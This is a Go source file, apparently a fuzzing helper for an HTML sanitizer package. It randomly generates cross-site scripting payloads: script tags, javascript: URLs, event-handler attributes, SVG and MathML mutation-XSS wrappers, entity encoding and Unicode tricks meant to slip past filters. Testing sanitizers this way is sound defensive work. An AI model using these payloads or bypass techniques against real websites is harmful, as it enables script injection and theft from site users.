package sanitize

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// grammar makes attacks on HTML parsers and sanitizers: a thing that runs, written in one of the ways that browsers
// accept, inside something that changes how it is parsed, and then damaged a little.
type grammar struct{ *rand.Rand }

func (g grammar) one(of ...string) string { return of[g.IntN(len(of))] }

func (g grammar) chance(percent int) bool { return g.IntN(100) < percent }

func (g grammar) attack() string {
	s := g.payload()
	for range g.IntN(4) {
		s = g.wrap(s)
	}
	if g.chance(20) {
		s += g.one(" ", "\n", "") + g.payload()
	}
	for range g.IntN(3) {
		s = g.damage(s)
	}
	if g.chance(5) {
		s = strings.Repeat(g.one("<div>", "<b>", "<table><tr><td>", "<svg>", "<math>", "<form>"), 1+g.IntN(560)) + s
	}
	return s
}

// payload is something that runs.
func (g grammar) payload() string {
	call := g.one("alert(1)", "confirm`1`", "top.alert(1)", "alert?.(1)", "[1].find(alert)", "window['al'+'ert'](1)", "eval('alert(1)')")
	switch g.IntN(9) {
	case 0:
		return "<" + g.cased("script") + g.attributes("") + ">" + call + g.one("</script>", "</SCRIPT >", "</script\n/>", "")
	case 1:
		return "<" + g.cased("script") + g.gap() + "src=" + g.quote("data:text/javascript,"+call) + "></script>"
	case 2:
		return "<" + g.cased(g.one("a", "area", "base", "form", "iframe", "embed", "object", "link", "button", "math", "image")) + g.gap() +
			g.one("href", "src", "data", "action", "formaction", "xlink:href", "srcdoc", "background") + "=" + g.quote(g.scriptURL(call)) + ">x"
	case 3:
		return "<iframe srcdoc=" + g.quote(entities(g, "<img src=x onerror="+call+">")) + ">"
	case 4:
		return "<svg><" + g.one("animate", "set", "animateTransform") + " attributeName=" + g.one("href", "xlink:href", "onload") +
			" " + g.one("values", "to", "from") + "=" + g.quote(g.scriptURL(call)) + g.one(" dur=1s", "") + ">"
	case 5:
		return "<meta http-equiv=refresh content=" + g.quote("0;url="+g.scriptURL(call)) + ">"
	case 6:
		return "<style>" + g.one("@import 'javascript:"+call+"'", "*{background:url(javascript:"+call+")}", "p{x:expression("+call+")}") + "</style>"
	default:
		return "<" + g.cased(g.one("img", "svg", "body", "input", "video", "audio", "details", "iframe", "marquee", "object", "select",
			"textarea", "x-y", "b", "style", "math", "image", "template", "dialog", "object")) + g.attributes(call) + g.one(">", ">x", "/>", " >", "")
	}
}

// attributes has a handler that runs by itself where there is one.
func (g grammar) attributes(call string) string {
	out := ""
	for range g.IntN(3) {
		out += g.gap() + g.one("id=a", "title='>'", `alt="<b>"`, "hidden", "class", "data-x=1", "style=x:y", "lang=`", "a=b\"c") + g.one("", "", "\f")
	}
	if call != "" {
		out += g.gap() + g.one("src=x"+g.gap(), "autofocus"+g.gap(), "open"+g.gap(), "tabindex=0"+g.gap(), "") +
			g.cased(g.one("onerror", "onload", "onfocus", "ontoggle", "onbegin", "onstart", "onanimationend", "onbeforetoggle", "onpointerrawupdate")) +
			g.one("=", " = ", "\n=") + g.quote(entities(g, call))
	}
	return out + g.one("", "", " ", "/")
}

func (g grammar) gap() string { return g.one(" ", " ", "\t", "\n", "\r\n", "\f", "/", " / ", "  ") }

func (g grammar) quote(s string) string {
	switch g.IntN(4) {
	case 0:
		return `"` + s + `"`
	case 1:
		return "'" + s + "'"
	case 2:
		return "`" + s + "`"
	}
	return s
}

func (g grammar) cased(s string) string {
	b := []byte(s)
	for i := range b {
		if g.chance(15) && b[i] >= 'a' && b[i] <= 'z' {
			b[i] -= 'a' - 'A'
		}
	}
	return string(b)
}

func (g grammar) scriptURL(call string) string {
	s := g.one("javascript:", "JaVaScRiPt:", "vbscript:", " javascript:", "java\tscript:", "java\nscript:", "\x01javascript:",
		"data:text/html,<script>", "javascript&colon;", "javascript&#58;", "&#106avascript:", "java&Tab;script:") + call
	return entities(g, s)
}

// entities writes some characters as character references.
func entities(g grammar, s string) string {
	if g.chance(60) {
		return s
	}
	var b strings.Builder
	for _, r := range s {
		switch {
		case !g.chance(15):
			b.WriteRune(r)
		case g.chance(50):
			fmt.Fprintf(&b, "&#%d%s", r, g.one(";", ";", ""))
		default:
			fmt.Fprintf(&b, "&#%s%s%x;", g.one("x", "X"), g.one("", "000000"), r)
		}
	}
	return b.String()
}

// wrap puts s where a parser and a sanitizer may disagree about what it is.
func (g grammar) wrap(s string) string {
	raw := g.one("style", "title", "textarea", "noscript", "xmp", "noembed", "noframes", "iframe", "plaintext", "script", "template", "select", "option")
	switch g.IntN(14) {
	case 0:
		return "<" + raw + ">" + s + "</" + raw + g.one(">", " >", "\n>", "/x>", "")
	case 1:
		return "<" + raw + "></" + raw + ">" + s + "</" + raw + ">"
	case 2:
		return "<p title=" + g.one(`"`, "'", "") + "</" + raw + ">" + s + g.one(`"`, "'", "") + ">"
	case 3:
		return g.one("<!--", "<!-->", "<!--->", "<!", "<?", "</ ", "<![CDATA[", "<!doctype ", "<!--!>") + s + g.one("-->", "--!>", ">", "]]>", "?>", "")
	case 4:
		return "<svg><" + g.one("desc", "title", "foreignObject", "style", "script", "p", "a") + ">" + s + g.one("</svg>", "</p></svg>", "")
	case 5:
		return "<math><" + g.one("mi", "mtext", "ms", "annotation-xml", "annotation-xml encoding=text/html", "mglyph", "malignmark") + ">" + s + g.one("</math>", "</mtext></math>", "")
	case 6:
		return "<form><math><mtext></form><form><mglyph><" + g.one("style", "title", "xmp") + "></math>" + s
	case 7:
		return "<table>" + g.one("", "<tr>", "<tr><td>", "<caption>", "<colgroup>") + s + g.one("</table>", "")
	case 8:
		return "<" + g.one("select", "select><option", "datalist", "optgroup") + ">" + s + g.one("</select>", "")
	case 9:
		return "<a href=" + g.quote("https://example.com/?"+s) + ">x</a>"
	case 10:
		return "<" + g.one("b", "p", "li", "h1", "custom-element", "o:p", "blockquote") + g.attributes("") + ">" + s + g.one("</b>", "</p>", "")
	case 11:
		return strings.NewReplacer("<", g.one("&lt;", "&lt", "&#60;", "&#x3c", "%3C", "\\u003c", "&amp;lt;"), ">", g.one(">", "&gt;", "&#62;")).Replace(s)
	case 12:
		return g.one("\"", "'", "\">", "'>", "</title>", "</textarea>", "]]>", "-->", "\r\n\r\n") + s
	}
	return s + g.one("", "<", "</", "<!", "<!--", "&", "&#", "&lt")
}

// damage changes a place in s.
func (g grammar) damage(s string) string {
	if s == "" {
		return s
	}
	at := g.IntN(len(s))
	switch g.IntN(6) {
	case 0: // something that a cleaner takes out
		return s[:at] + g.one("\x00", "\u200b", "\u00ad", "<b>", "</b>", "<!-- -->", "\x1b", "\u202e", "\xff", "<script></script>", "\ufeff", "\u0338") + s[at:]
	case 1:
		return s[:at] + s[min(len(s), at+1+g.IntN(3)):]
	case 2:
		return s[:at]
	case 3: // a letter that case folding or normalization turns into another
		return strings.NewReplacer("s", g.one("s", "\u017f"), "k", "\u212a", "i", g.one("i", "\u0131", "\u0130"), "<", g.one("<", "\uff1c", "\ufe64")).Replace(s)
	case 4:
		return s[:at] + s[at/2:at] + s[at:]
	}
	return s[:at] + g.one("<", ">", "\"", "'", "/", "=", " ", "\n", "`", "&") + s[at:]
}
